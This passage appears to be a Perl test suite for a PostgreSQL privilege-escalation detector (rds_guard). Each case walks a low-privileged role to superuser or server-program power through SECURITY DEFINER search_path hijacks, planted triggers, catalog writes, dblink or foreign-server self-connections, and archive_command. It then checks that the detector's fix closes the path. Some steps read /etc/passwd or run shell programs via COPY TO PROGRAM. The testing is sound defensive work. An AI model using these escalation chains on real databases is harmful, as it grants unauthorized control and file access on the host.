# Each kind of escalation is walked: the weak role takes the steps that
# escalation_paths() prints and has the power; after the fix it has not, and the
# path is gone. What only looks like a path has no row.

use strict;
use warnings;

use FindBin;
use lib "$FindBin::RealBin/../perl";

use PostgreSQL::Test::Utils;
use RdsGuard;
use Test::More;
use Time::HiRes qw(usleep);

my $node = server(
	'escalation',
	hba => "local pw all md5\nlocal all all trust\nlocal replication all trust",
	conf => "wal_level = logical\narchive_mode = on\narchive_command = 'true'\nautovacuum = off");
my $major = major($node);
my $folder = PostgreSQL::Test::Utils::tempdir();
my $proof_file = "$folder/proof";
my $port = $node->port;
my $socket = $node->host;
my $available = { map { $_->{name} => 1 } @{ rows($node, 'SELECT name FROM pg_available_extensions') } };

# Before 15 everybody may create in public; that is not what is tested here.
sql($node, <<'SQL');
CREATE DATABASE model;
\c model
CREATE EXTENSION rds_guard;
REVOKE CREATE ON SCHEMA public FROM PUBLIC;
CREATE SCHEMA app;
GRANT USAGE ON SCHEMA app TO PUBLIC;
SQL

# What code of the weak role does once a stronger one runs it.
my $evil = 'ALTER ROLE weak SUPERUSER';
my $is_super = q{SELECT rolsuper FROM pg_roles WHERE rolname = 'weak'};
# a program that does not read what it gets may end too early for COPY
my $program = qq{COPY (SELECT 1) TO PROGRAM 'cat > $proof_file'};
my $has_run = qq{SELECT (pg_stat_file('$proof_file', true)).size IS NOT NULL};

sub evil_function
{
	my ($name, $returns, $what) = @_;
	$what //= $evil;
	$what =~ s/'/''/g;
	my $result = $returns eq 'trigger' ? 'new' : $returns =~ /^SETOF/ ? '' : $returns eq 'event_trigger' || $returns eq 'void' ? '' : '1';
	return "CREATE OR REPLACE FUNCTION $name RETURNS $returns LANGUAGE plpgsql AS 'BEGIN EXECUTE \$evil\$$what\$evil\$; RETURN $result; END'";
}

# A function that must be IMMUTABLE may still call one that is not.
sub immutable_function
{
	my ($name) = @_;
	return (
		evil_function('weak.really()', 'integer'),
		"CREATE OR REPLACE FUNCTION $name RETURNS integer LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN weak.really(); END'");
}

my $harmless = q{RETURNS integer LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN 1; END'};
my $boss = 'CREATE ROLE boss SUPERUSER LOGIN;';
my $own_schema = 'CREATE SCHEMA weak AUTHORIZATION weak;';
my $strong = 'CREATE ROLE strong LOGIN; GRANT pg_execute_server_program TO strong; GRANT CREATE, USAGE ON SCHEMA app TO strong;';
my $group_of_boss = $boss . 'CREATE ROLE grp; GRANT boss TO grp;';

sub owned_function
{
	my ($name, $returns) = @_;
	$returns //= $harmless;
	return "CREATE FUNCTION $name $returns; ALTER FUNCTION $name OWNER TO weak;";
}

# A case: what is wrong, the kinds of steps, what the weak role and others do,
# and what shows that it worked. "setup" runs as superuser in a new database.
# A step is of the weak role unless it says "boss: ..." or so.
my @cases;

sub walked
{
	my ($name, %case) = @_;
	return if defined $case{from} && $major < $case{from};
	return if defined $case{to} && $major > $case{to};
	return if defined $case{extension} && !$available->{ $case{extension} };
	push @cases, { power => 'superuser', proof => $is_super, name => $name, %case };
	return;
}

#
# Memberships
#
walked('SET ROLE', setup => "$boss GRANT boss TO weak", kinds => 'set', walk => [ 'SET ROLE boss', $evil ]);
walked(
	'ADMIN OPTION on a group of a superuser',
	from => 16,
	setup => "$group_of_boss GRANT grp TO weak WITH ADMIN TRUE, INHERIT FALSE, SET FALSE",
	kinds => 'admin set',
	walk => [ 'GRANT grp TO weak WITH INHERIT TRUE, SET TRUE', 'SET ROLE boss', $evil ]);
walked(
	'ADMIN OPTION of a group that is inherited',
	from => 16,
	setup => "$group_of_boss CREATE ROLE keeper; GRANT grp TO keeper WITH ADMIN TRUE, INHERIT FALSE, SET FALSE; GRANT keeper TO weak WITH INHERIT TRUE, SET FALSE",
	kinds => 'inherit admin set',
	walk => [ 'GRANT grp TO weak WITH INHERIT TRUE, SET TRUE', 'SET ROLE boss', $evil ]);
walked(
	'a predefined role, not inherited',
	setup => 'ALTER ROLE weak NOINHERIT; GRANT pg_execute_server_program TO weak',
	kinds => 'set',
	power => 'pg_execute_server_program',
	walk => [ 'SET ROLE pg_execute_server_program', $program ],
	proof => $has_run);
walked(
	'a predefined role, inherited only',
	from => 16,
	setup => 'GRANT pg_execute_server_program TO weak WITH INHERIT TRUE, SET FALSE',
	kinds => 'inherit',
	power => 'pg_execute_server_program',
	walk => [$program],
	proof => $has_run);
walked(
	'the privileges of a superuser without SET ROLE',
	from => 16,
	setup => "GRANT \"$superuser\" TO weak WITH INHERIT TRUE, SET FALSE",
	kinds => 'inherit own_function',
	walk => [
		'CREATE OR REPLACE FUNCTION information_schema._pg_index_position(oid, smallint) RETURNS integer LANGUAGE plpgsql SECURITY DEFINER AS '
		  . "'BEGIN $evil; RETURN 1; END'",
		'SELECT information_schema._pg_index_position(1::oid, 1::smallint)'
	]);
walked(
	'CREATEROLE',
	to => 15,
	setup => 'ALTER ROLE weak CREATEROLE',
	kinds => 'createrole',
	power => 'CREATEROLE',
	walk => [ 'GRANT pg_execute_server_program TO weak', $program ],
	proof => $has_run);
walked(
	'CREATEROLE of another role',
	to => 15,
	setup => 'CREATE ROLE creator CREATEROLE; GRANT creator TO weak',
	kinds => 'set createrole',
	power => 'CREATEROLE',
	walk => [ 'SET ROLE creator', 'GRANT pg_execute_server_program TO weak', 'RESET ROLE', $program ],
	proof => $has_run);
walked(
	'the owner of the database',
	from => 14,
	setup => "$boss ALTER DATABASE here OWNER TO weak; ALTER TABLE public.t OWNER TO boss; GRANT TRIGGER ON public.t TO pg_database_owner",
	kinds => 'set trigger_privilege',
	walk => [
		evil_function('public.evil()', 'trigger'), 'CREATE TRIGGER evil BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION public.evil()',
		'boss: INSERT INTO public.t VALUES (1)'
	]);

#
# Catalogs
#
my $me = q{(SELECT r.oid FROM pg_roles AS r WHERE r.rolname = 'weak')};
my $definer = 'CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS ' . "'BEGIN $evil; END'";
my %catalog = (
	'pg_authid rolsuper' => [ 'superuser', 'UPDATE pg_authid SET rolsuper = true' ],
	'pg_auth_members member,roleid' =>
	  [ 'superuser', "UPDATE pg_auth_members SET roleid = 10, member = $me WHERE roleid = 'pg_read_all_settings'::regrole", "SET ROLE \"$superuser\"", $evil ],
	'pg_proc proowner' => [ 'superuser', $definer, q{UPDATE pg_proc SET proowner = 10 WHERE proname = 'f'}, 'SELECT pg_temp.f()' ],
	'pg_class relowner' => [
		'superuser', "UPDATE pg_class SET relowner = $me WHERE oid = 'pg_authid'::regclass", 'GRANT UPDATE (rolsuper) ON pg_authid TO weak',
		'UPDATE pg_authid SET rolsuper = true'
	],
	'pg_attribute attacl' => [
		'superuser', q{UPDATE pg_attribute SET attacl = ARRAY[makeaclitem(0, 10, 'UPDATE', false)] WHERE attrelid = 'pg_authid'::regclass AND attname = 'rolsuper'},
		'UPDATE pg_authid SET rolsuper = true'
	],
	'pg_proc proacl' => [ 'pg_write_server_files', q{UPDATE pg_proc SET proacl = NULL WHERE proname = 'lo_export'}, 'export' ],
	'pg_proc prolang' => [
		'pg_write_server_files', 'SET check_function_bodies = off',
		q{CREATE FUNCTION pg_temp.f(oid, text) RETURNS integer LANGUAGE plpgsql AS 'be_lo_export'},
		q{UPDATE pg_proc SET prolang = 12 WHERE proname = 'f'}, 'export pg_temp.f'
	],
	'pg_language lanpltrusted' => [
		'pg_write_server_files', q{UPDATE pg_language SET lanpltrusted = true WHERE lanname = 'internal'},
		q{CREATE FUNCTION pg_temp.f(oid, text) RETURNS integer LANGUAGE internal AS 'be_lo_export'}, 'export pg_temp.f'
	]);

# Writes the file that proves it.
sub export
{
	my ($function) = @_;
	return ('SELECT lo_from_bytea(4711, \'x\')', "SELECT $function(4711, '$proof_file')");
}

foreach my $what (sort keys %catalog)
{
	my ($catalog, $columns) = split ' ', $what;
	my ($power, @walk) = @{ $catalog{$what} };
	my $update = join ', ', map { "UPDATE ($_)" } split ',', $columns;
	@walk = map { /^export ?(.*)/ ? export($1 || 'lo_export') : $_ } @walk;
	my %case = (kinds => 'catalog_write', power => $power, $power eq 'superuser' ? () : (proof => $has_run));
	walked("UPDATE of $what", %case, setup => "GRANT $update ON $catalog TO weak", walk => \@walk);
	next if $columns =~ /,|proacl|prolang|proowner/;
	my $again = "GRANT $update ON $catalog TO weak";
	walked("UPDATE of $catalog WITH GRANT OPTION", %case, setup => "GRANT UPDATE ON $catalog TO weak WITH GRANT OPTION", walk => [ $again, @walk ]);
	walked("ownership of $catalog", %case, setup => "SET allow_system_table_mods = on; ALTER TABLE $catalog OWNER TO weak", walk => [ $again, @walk ]);
}
walked(
	'UPDATE of pg_authid (rolpassword)',
	setup => "$boss GRANT UPDATE (rolpassword) ON pg_authid TO weak",
	kinds => 'catalog_write',
	walk => [ q{UPDATE pg_authid SET rolpassword = 'md5' || md5('secretboss')}, 'password' ]);
walked(
	'UPDATE of two columns, each by another group',
	setup => 'CREATE ROLE a; CREATE ROLE b; GRANT a, b TO weak; GRANT UPDATE (member) ON pg_auth_members TO a; GRANT UPDATE (roleid) ON pg_auth_members TO b',
	kinds => 'catalog_write',
	walk => [ @{ $catalog{'pg_auth_members member,roleid'} }[ 1 .. 3 ] ]);

#
# Functions, languages, parameters
#
walked(
	'EXECUTE on lo_export()',
	setup => 'GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO PUBLIC',
	kinds => 'server_function',
	power => 'pg_write_server_files',
	walk => [ export('lo_export') ],
	proof => $has_run);
walked(
	'EXECUTE on lo_import()',
	setup => 'GRANT EXECUTE ON FUNCTION lo_import(text) TO weak',
	kinds => 'server_function',
	power => 'pg_read_server_files',
	walk => [q{SELECT lo_import('/etc/passwd')}],
	proof => 'SELECT count(*) > 0 FROM pg_largeobject_metadata');
walked(
	'EXECUTE on pg_read_binary_file()',
	setup => 'GRANT EXECUTE ON FUNCTION pg_read_binary_file(text) TO weak; CREATE TABLE seen (f bytea); GRANT INSERT ON seen TO weak',
	kinds => 'server_function',
	power => 'pg_read_server_files',
	walk => [q{INSERT INTO seen SELECT pg_read_binary_file('global/1260')}],
	proof => 'SELECT count(*) > 0 FROM seen');
walked(
	'EXECUTE on pg_file_write()',
	extension => 'adminpack',
	setup => 'CREATE EXTENSION adminpack; GRANT EXECUTE ON FUNCTION pg_file_write(text, text, boolean) TO weak',
	kinds => 'server_function',
	power => 'pg_write_server_files',
	walk => [q{SELECT pg_file_write('written', 'x', false)}],
	proof => q{SELECT (pg_stat_file('written', true)).size IS NOT NULL});
walked(
	'EXECUTE on dblink_connect_u()',
	extension => 'dblink',
	setup => 'CREATE EXTENSION dblink; GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO weak',
	kinds => 'server_function',
	walk => [ "SELECT dblink_connect_u('host=$socket port=$port dbname=here user=$superuser')", "SELECT dblink_exec('$evil')" ]);
walked(
	'an internal language for everybody',
	setup => q{UPDATE pg_language SET lanpltrusted = true WHERE lanname = 'internal'},
	kinds => 'language',
	power => 'pg_write_server_files',
	walk => [ q{CREATE FUNCTION pg_temp.f(oid, text) RETURNS integer LANGUAGE internal AS 'be_lo_export'}, export('pg_temp.f') ],
	proof => $has_run);
walked(
	'ALTER SYSTEM on archive_command',
	from => 15,
	setup => 'GRANT ALTER SYSTEM ON PARAMETER archive_command TO weak',
	kinds => 'parameter',
	power => 'pg_execute_server_program',
	walk => [ "ALTER SYSTEM SET archive_command = 'touch $proof_file'", 'reload', 'switch' ],
	proof => $has_run);

#
# Triggers and expressions
#
walked(
	'TRIGGER on a table of a superuser',
	setup => "$boss ALTER TABLE t OWNER TO boss; CREATE TABLE t2 (a integer); ALTER TABLE t2 OWNER TO boss; GRANT TRIGGER ON t, t2 TO weak",
	kinds => 'trigger_privilege',
	walk => [
		evil_function('pg_temp.evil()', 'trigger'), 'CREATE TRIGGER evil BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION pg_temp.evil()',
		'boss: INSERT INTO t VALUES (1)'
	]);
walked(
	'TRIGGER for a group, granted on',
	setup => "$boss CREATE ROLE a; CREATE ROLE b; GRANT a TO weak; ALTER TABLE t OWNER TO boss; GRANT TRIGGER ON t TO b WITH GRANT OPTION; SET ROLE b; GRANT TRIGGER ON t TO a",
	kinds => 'set trigger_privilege',
	walk => [
		evil_function('pg_temp.evil()', 'trigger'), 'CREATE TRIGGER evil BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION pg_temp.evil()',
		'boss: INSERT INTO t VALUES (1)'
	]);
walked(
	'the function of a trigger',
	setup => "$boss GRANT CREATE ON SCHEMA app TO weak; ALTER TABLE t OWNER TO boss;"
	  . owned_function('app.f()', q{RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN new; END'})
	  . 'CREATE TRIGGER f BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION app.f()',
	kinds => 'trigger_function',
	walk => [ evil_function('app.f()', 'trigger'), 'boss: INSERT INTO t VALUES (1)' ]);
walked(
	'the function of a trigger, in a schema where only others create',
	setup => "$boss $own_schema ALTER TABLE t OWNER TO boss;"
	  . owned_function('app.f()', q{RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN new; END'})
	  . 'CREATE TRIGGER f BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION app.f()',
	kinds => 'trigger_function',
	walk => [ 'ALTER FUNCTION app.f() SET SCHEMA weak', evil_function('weak.f()', 'trigger'), 'boss: INSERT INTO t VALUES (1)' ]);
walked(
	'the function of an event trigger',
	setup => "$boss $own_schema" . owned_function('weak.f()', q{RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'})
	  . 'CREATE EVENT TRIGGER f ON ddl_command_start EXECUTE FUNCTION weak.f()',
	kinds => 'event_trigger',
	walk => [ evil_function('weak.f()', 'event_trigger'), 'boss: CREATE TABLE t3 ()' ]);

my %expression = (
	'an index' => 'CREATE INDEX ON t (weak.f(a))',
	'the predicate of an index' => 'CREATE INDEX ON t (a) WHERE weak.f(a) > 0',
	'a default' => 'ALTER TABLE t ALTER COLUMN a SET DEFAULT weak.f(1)',
	'a generated column' => 'ALTER TABLE t ADD COLUMN b integer GENERATED ALWAYS AS (weak.f(a)) STORED',
	'a constraint' => 'ALTER TABLE t ADD CHECK (weak.f(a) > 0)',
	'a rule' => 'CREATE RULE r AS ON INSERT TO t DO ALSO SELECT weak.f(new.a)');
foreach my $what (sort keys %expression)
{
	walked(
		"the function of $what",
		setup => "$boss $own_schema GRANT USAGE ON SCHEMA weak TO PUBLIC;" . owned_function('weak.f(integer)') . "ALTER TABLE t OWNER TO boss; $expression{$what}",
		kinds => 'expression_function',
		walk => [ immutable_function('weak.f(integer)'), 'boss: INSERT INTO t ' . ($what eq 'a default' ? 'DEFAULT VALUES' : 'VALUES (1)') ]);
}
walked(
	'the function of a materialized view',
	setup => "$boss $own_schema"
	  . owned_function('weak.f(integer)')
	  . 'CREATE MATERIALIZED VIEW m AS SELECT weak.f(a) FROM t WHERE random() >= 0; ALTER MATERIALIZED VIEW m OWNER TO boss; INSERT INTO t VALUES (1)',
	kinds => 'expression_function',
	walk => [ immutable_function('weak.f(integer)'), 'boss: REFRESH MATERIALIZED VIEW m' ]);
walked(
	'the function of statistics',
	from => 14,
	setup => "$boss $own_schema" . owned_function('weak.f(integer)') . 'CREATE STATISTICS s ON (weak.f(a)) FROM t; ALTER TABLE t OWNER TO boss; INSERT INTO t VALUES (1)',
	kinds => 'expression_function',
	walk => [ immutable_function('weak.f(integer)'), 'boss: ANALYZE t' ]);
walked(
	'the function of a policy',
	setup => "$strong $own_schema GRANT USAGE ON SCHEMA weak TO PUBLIC; GRANT SELECT ON t TO strong; INSERT INTO t VALUES (1);"
	  . owned_function('weak.f(integer)')
	  . 'ALTER TABLE t ENABLE ROW LEVEL SECURITY; CREATE POLICY p ON t TO strong USING (weak.f(a) > 0)',
	kinds => 'policy_function set',
	power => 'pg_execute_server_program',
	walk => [ evil_function('weak.f(integer)', 'integer', $program), 'strong: SELECT * FROM t' ],
	proof => $has_run);
walked(
	'a function that a bound SECURITY DEFINER function calls',
	from => 14,
	setup => "$own_schema" . owned_function('weak.f(integer)') . 'CREATE FUNCTION app.d() RETURNS integer LANGUAGE sql SECURITY DEFINER BEGIN ATOMIC SELECT weak.f(1); END',
	kinds => 'definer_calls_function',
	walk => [ evil_function('weak.f(integer)', 'integer'), 'SELECT app.d()' ]);

#
# What SECURITY DEFINER functions look up
#
my $evil_view = 'AS SELECT 1 AS a FROM pg_temp.evil()';
sub definer
{
	my ($body, $set, $language) = @_;
	return "CREATE FUNCTION app.d() RETURNS void LANGUAGE " . ($language // 'plpgsql') . " SECURITY DEFINER " . ($set // '') . " AS '$body'";
}
my $counts = 'BEGIN PERFORM count(*) FROM pg_class; END';
foreach my $path ('', q{SET search_path = ''}, 'SET search_path = pg_catalog', 'SET search_path = pg_temp, pg_catalog', 'SET search_path = "app, pg_temp"')
{
	walked(
		'a temporary view before a catalog, with ' . ($path || 'no search_path'),
		setup => definer($counts, $path),
		kinds => 'definer_search_path',
		walk => [ evil_function('pg_temp.evil()', 'SETOF integer'), "CREATE TEMP VIEW pg_class $evil_view", 'SELECT app.d()' ]);
}
walked(
	'a trigger on a temporary table before a table',
	setup => definer('BEGIN INSERT INTO t VALUES (1); END', 'SET search_path = public'),
	kinds => 'definer_search_path',
	walk => [
		evil_function('pg_temp.evil()', 'trigger'), 'CREATE TEMP TABLE t (a integer)',
		'CREATE TRIGGER evil BEFORE INSERT ON pg_temp.t FOR EACH ROW EXECUTE FUNCTION pg_temp.evil()', 'SELECT app.d()'
	]);
walked(
	'a function before one of pg_catalog, by the path of the caller',
	setup => $own_schema . definer(q{BEGIN PERFORM lower(''A''::text); END}),
	kinds => 'definer_search_path',
	walk => [
		'CREATE FUNCTION weak.lower(text) RETURNS text LANGUAGE plpgsql AS ' . "'BEGIN $evil; RETURN NULL; END'",
		'SET search_path = weak, pg_catalog', 'SELECT app.d()'
	]);
walked(
	'a function in a schema that comes first',
	setup => 'CREATE SCHEMA first; GRANT CREATE, USAGE ON SCHEMA first TO weak; CREATE FUNCTION app.helper() RETURNS integer LANGUAGE sql AS \'SELECT 1\';'
	  . definer('BEGIN PERFORM helper(); END', 'SET search_path = first, app, pg_temp'),
	kinds => 'definer_search_path',
	walk => [ evil_function('first.helper()', 'integer'), 'SELECT app.d()' ]);
walked(
	'a schema of the path that does not exist',
	setup => 'GRANT CREATE ON DATABASE here TO weak;' . definer(q{BEGIN PERFORM lower(''A''::text); END}, 'SET search_path = soon, pg_catalog, pg_temp'),
	kinds => 'definer_search_path',
	walk => [
		'CREATE SCHEMA soon', 'GRANT USAGE ON SCHEMA soon TO PUBLIC',
		'CREATE FUNCTION soon.lower(text) RETURNS text LANGUAGE plpgsql AS ' . "'BEGIN $evil; RETURN NULL; END'", 'SELECT app.d()'
	]);
walked(
	'"$user" is the schema of the owner',
	setup => "$strong CREATE SCHEMA strong; GRANT USAGE ON SCHEMA strong TO PUBLIC; GRANT CREATE ON SCHEMA strong TO weak; CREATE FUNCTION app.helper() RETURNS integer LANGUAGE sql AS 'SELECT 1';"
	  . definer('BEGIN PERFORM helper(); END', 'SET search_path = "$user", app, pg_temp') . '; ALTER FUNCTION app.d() OWNER TO strong',
	kinds => 'definer_search_path inherit',
	power => 'pg_execute_server_program',
	walk => [ evil_function('strong.helper()', 'integer', $program), 'SELECT app.d()' ],
	proof => $has_run);
walked(
	'rights of two groups, and an owner who administers a third',
	from => 16,
	setup => "$group_of_boss CREATE ROLE a; CREATE ROLE b; GRANT a, b TO weak; CREATE ROLE keeper; GRANT grp TO keeper WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;"
	  . 'CREATE SCHEMA closed; GRANT USAGE ON SCHEMA closed TO b;'
	  . (definer('BEGIN PERFORM count(*) FROM t; END') =~ s/app\.d/closed.d/r)
	  . '; ALTER FUNCTION closed.d() OWNER TO keeper; REVOKE ALL ON FUNCTION closed.d() FROM PUBLIC; GRANT EXECUTE ON FUNCTION closed.d() TO a',
	kinds => 'definer_search_path admin set',
	walk => [
		evil_function('pg_temp.evil()', 'SETOF integer', 'GRANT grp TO weak WITH INHERIT TRUE, SET TRUE'),
		"CREATE TEMP VIEW t $evil_view", 'GRANT SELECT ON t TO PUBLIC', 'SELECT closed.d()', 'SET ROLE boss', $evil
	]);
walked(
	'a view that a SECURITY DEFINER function reads',
	setup => "$own_schema CREATE TABLE weak.v (a integer); ALTER TABLE weak.v OWNER TO weak;" . definer('BEGIN PERFORM count(*) FROM weak.v; END', 'SET search_path = pg_catalog, pg_temp'),
	kinds => 'definer_uses',
	walk => [ evil_function('weak.evil()', 'SETOF integer'), 'DROP TABLE weak.v', 'CREATE VIEW weak.v AS SELECT 1 AS a FROM weak.evil()', 'SELECT app.d()' ]);
walked(
	'a table that a SECURITY DEFINER function writes to',
	setup => 'CREATE TABLE app.v (a integer); ALTER TABLE app.v OWNER TO weak;' . definer('BEGIN INSERT INTO app.v VALUES (1); END', 'SET search_path = pg_catalog, pg_temp'),
	kinds => 'definer_uses',
	walk => [ evil_function('pg_temp.evil()', 'trigger'), 'CREATE TRIGGER evil BEFORE INSERT ON app.v FOR EACH ROW EXECUTE FUNCTION pg_temp.evil()', 'SELECT app.d()' ]);
walked(
	'a function in a schema of the weak role',
	setup => "$own_schema CREATE FUNCTION weak.helper() RETURNS integer LANGUAGE sql AS 'SELECT 1';" . definer('BEGIN PERFORM weak.helper(); END', 'SET search_path = pg_catalog, pg_temp'),
	kinds => 'definer_uses',
	walk => [ 'DROP FUNCTION weak.helper()', evil_function('weak.helper()', 'integer'), 'SELECT app.d()' ]);

#
# Jobs, foreign servers, subscriptions. There need not be a pg_cron here: what
# counts is its table, and the test runs the jobs.
#
my $cron = 'CREATE SCHEMA cron; CREATE TABLE cron.job (jobid bigint, command text, database text, username text, active boolean);';
walked(
	'a job that calls a function of the weak role',
	setup => "$boss $own_schema $cron CREATE FUNCTION weak.nightly() RETURNS integer LANGUAGE sql AS 'SELECT 1'; ALTER FUNCTION weak.nightly() OWNER TO weak;"
	  . q{INSERT INTO cron.job VALUES (1, 'SELECT weak.nightly()', 'here', 'boss', true)},
	kinds => 'job_uses',
	walk => [ evil_function('weak.nightly()', 'integer'), 'boss: SELECT weak.nightly()' ]);
walked(
	'a foreign server that is this one',
	extension => 'postgres_fdw',
	setup => "$boss $own_schema CREATE EXTENSION postgres_fdw; CREATE SERVER self FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '$socket', port '$port', dbname 'here');"
	  . q{GRANT USAGE ON FOREIGN SERVER self TO weak; CREATE USER MAPPING FOR weak SERVER self OPTIONS (user 'boss', password_required 'false')},
	kinds => 'foreign_server',
	walk => [
		q{CREATE FOREIGN TABLE weak.a (rolname name, rolsuper boolean) SERVER self OPTIONS (schema_name 'pg_catalog', table_name 'pg_authid')},
		q{UPDATE weak.a SET rolsuper = true WHERE rolname = 'weak'}
	]);
walked(
	'a table that a subscription of the superuser writes to',
	publisher => 1,
	setup => "$own_schema ALTER TABLE t OWNER TO weak; CREATE SUBSCRIPTION s CONNECTION 'host=$socket port=$port dbname=publisher user=$superuser' PUBLICATION p"
	  . " WITH (create_slot = false, slot_name = 'escalation', copy_data = false" . ($major >= 16 ? ', run_as_owner = true' : '') . ')',
	kinds => 'subscription',
	walk => [
		evil_function('weak.evil()', 'trigger'), 'CREATE TRIGGER evil BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION weak.evil()',
		'ALTER TABLE t ENABLE ALWAYS TRIGGER evil', 'publish'
	]);

sub as_role
{
	my ($sessions, $role, $statement) = @_;
	$sessions->{$role} //= session($node, dbname => 'here', user => $role);
	my (undef, $err) = $sessions->{$role}->query($statement);
	return $err;
}

# Waits until a query says true, but not for ever: after a fix it never does.
sub poll
{
	my ($query) = @_;
	for (my $patience = 100; !value($node, $query) && $patience > 0; $patience--) { usleep(20_000); }
	return;
}

# Takes the steps; the errors, as a text.
sub walk
{
	my ($case) = @_;
	my %sessions;
	my @errors;
	foreach my $step (@{ $case->{walk} })
	{
		if ($step eq 'reload') { reload($node); }
		elsif ($step eq 'switch')
		{
			sql($node, 'SELECT pg_switch_wal()');
			poll($case->{proof});
		}
		elsif ($step eq 'publish')
		{
			sql($node, 'INSERT INTO t VALUES (1)', dbname => 'publisher');
			poll($case->{proof});
		}
		elsif ($step eq 'password')
		{
			local $ENV{PGPASSWORD} = 'secret';
			my (undef, undef, $err) = try_sql($node, $evil, dbname => 'pw', user => 'boss');
			push @errors, $err if $err =~ /ERROR|FATAL/;
		}
		else
		{
			my ($role, $statement) = $step =~ /^(boss|strong): (.*)/s ? ($1, $2) : ('weak', $step);
			my $err = as_role(\%sessions, $role, $statement);
			push @errors, "$statement: $err" if $err =~ /ERROR|FATAL/;
		}
	}
	$_->quit foreach values %sessions;
	return join '; ', @errors;
}

sub set_up
{
	my ($case) = @_;
	unlink $proof_file;
	unlink $node->data_dir . '/written';
	sql($node, 'CREATE DATABASE pw') if grep { $_ eq 'password' } @{ $case->{walk} };
	sql($node, <<'SQL') if $case->{publisher};
CREATE DATABASE publisher;
\c publisher
CREATE TABLE t (a integer);
CREATE PUBLICATION p FOR TABLE t;
SELECT pg_create_logical_replication_slot('escalation', 'pgoutput');
SQL
	sql($node, "CREATE ROLE weak LOGIN; CREATE DATABASE here TEMPLATE model; GRANT TEMPORARY ON DATABASE here TO PUBLIC");
	sql($node, "CREATE TABLE public.t (a integer);\n$case->{setup}", dbname => 'here');
	return;
}

sub tear_down
{
	my ($case) = @_;
	sql($node, 'ALTER SYSTEM RESET ALL');
	if ($case->{publisher})
	{
		sql($node, 'ALTER SUBSCRIPTION s DISABLE; ALTER SUBSCRIPTION s SET (slot_name = NONE); DROP SUBSCRIPTION s', dbname => 'here');
		poll(q{SELECT NOT active FROM pg_replication_slots WHERE slot_name = 'escalation'});
		sql($node, q{SELECT pg_drop_replication_slot('escalation')}, dbname => 'publisher');
		sql($node, 'DROP DATABASE publisher');
	}
	sql($node, 'DROP DATABASE here');
	sql($node, 'DROP DATABASE IF EXISTS pw');
	# what a case has done to all databases
	sql($node, <<"SQL");
SET client_min_messages = error;
UPDATE pg_authid SET rolsuper = (oid = 10), rolpassword = NULL;
REVOKE "$superuser" FROM weak;
INSERT INTO pg_auth_members SELECT m.* FROM memberships AS m WHERE NOT EXISTS (SELECT FROM pg_auth_members AS n WHERE (n.roleid, n.member) = (m.roleid, m.member));
SELECT format('DROP OWNED BY %I CASCADE', rolname) FROM pg_roles WHERE oid >= 16384 \\gexec
SELECT 'DROP ROLE ' || string_agg(quote_ident(rolname), ', ') FROM pg_roles WHERE oid >= 16384 \\gexec
SQL
	reload($node);
	return;
}

sub path_of_weak
{
	return rows($node, 'SELECT * FROM rds_guard.escalation_paths() WHERE role = \'weak\' ORDER BY step', dbname => 'here');
}

# pg_auth_members as initdb made it
sql($node, 'CREATE TABLE memberships AS SELECT * FROM pg_auth_members');

foreach my $case (@cases)
{
	my $name = $case->{name};
	subtest $name => sub {
		set_up($case);
		my $path = path_of_weak();
		is(join(' ', map { $_->{kind} } @$path), $case->{kinds}, 'the steps');
		is_deeply([ map { $_->{power} } @$path ], [ ($case->{power}) x @$path ], 'the power');
		note("$_->{step}/$_->{steps} $_->{sentence}") foreach @$path;
		my $fix = @$path ? $path->[0]{fix} : undef;
		note("fix: $fix") if defined $fix;
		is(value($node, $case->{proof}, dbname => 'here'), 0, 'not yet there');
		is(walk($case), '', 'the steps can be taken');
		is(value($node, $case->{proof}, dbname => 'here'), 1, 'and have led there');
		tear_down($case);

		set_up($case);
		my (undef, undef, $err) = try_sql($node, $fix // '', dbname => 'here');
		is($err, '', 'the fix can be run');
		is_deeply([ map { "$_->{kind}: $_->{sentence}" } @{ path_of_weak() } ], [], 'then there is no path');
		walk($case);
		is(value($node, $case->{proof}, dbname => 'here'), 0, 'and the steps lead nowhere');
		tear_down($case);
	};
}

#
# What only looks like a path
#
my %harmless = (
	'ADMIN OPTION on a harmless group' => 'CREATE ROLE harmless; GRANT harmless TO weak WITH ADMIN OPTION',
	'privileges on a whole catalog' => 'GRANT ALL ON pg_authid, pg_proc, pg_auth_members TO weak',
	'reading a catalog, and one of two columns' => 'GRANT SELECT ON pg_authid TO weak; GRANT UPDATE (member), SELECT (roleid) ON pg_auth_members TO weak',
	'functions that look at folders' => 'GRANT EXECUTE ON FUNCTION pg_ls_dir(text) TO weak; GRANT EXECUTE ON FUNCTION pg_stat_file(text) TO weak',
	'TRIGGER where neither functions nor temporary ones can be made' =>
	  "$boss ALTER TABLE t OWNER TO boss; GRANT TRIGGER ON t TO weak; REVOKE TEMPORARY ON DATABASE here FROM PUBLIC",
	'an event trigger that is off' => "$own_schema"
	  . owned_function('weak.f()', q{RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'})
	  . 'CREATE EVENT TRIGGER f ON ddl_command_start EXECUTE FUNCTION weak.f(); ALTER EVENT TRIGGER f DISABLE',
	'a policy that binds neither superusers nor the owner' => "$boss $own_schema ALTER TABLE t OWNER TO boss;"
	  . owned_function('weak.f(integer)')
	  . 'ALTER TABLE t ENABLE ROW LEVEL SECURITY; CREATE POLICY p ON t USING (weak.f(a) > 0)',
	'SECURITY DEFINER with temporary objects last' => definer($counts, 'SET search_path = pg_catalog, pg_temp'),
	'SECURITY DEFINER that weak may not call' => definer($counts) . '; REVOKE ALL ON FUNCTION app.d() FROM PUBLIC',
	'SECURITY DEFINER in a schema that is closed' => 'REVOKE ALL ON SCHEMA app FROM PUBLIC;' . definer($counts),
